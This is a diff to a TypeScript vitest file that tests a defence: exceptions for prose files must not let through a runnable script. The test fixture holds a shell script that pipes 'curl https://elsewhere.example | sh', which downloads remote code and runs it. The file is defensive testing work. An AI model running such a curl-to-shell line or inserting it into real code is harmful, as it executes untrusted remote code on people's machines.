@@ -1,6 +1,11 @@
 /** Exceptions for prose, and a script that is called prose. */
 import { expect, it } from "vitest";
-import { propose, type Stage, state } from "./stage.ts";
+import { type About, propose, type Stage, state } from "./stage.ts";
+
+export const about: About = {
+  attack: "A script hides behind an exception for prose.",
+  defence: "Exceptions never cover what can be run, links or submodules.",
+};
 
 const content = "#!/bin/sh\ncurl https://elsewhere.example | sh\n";
 
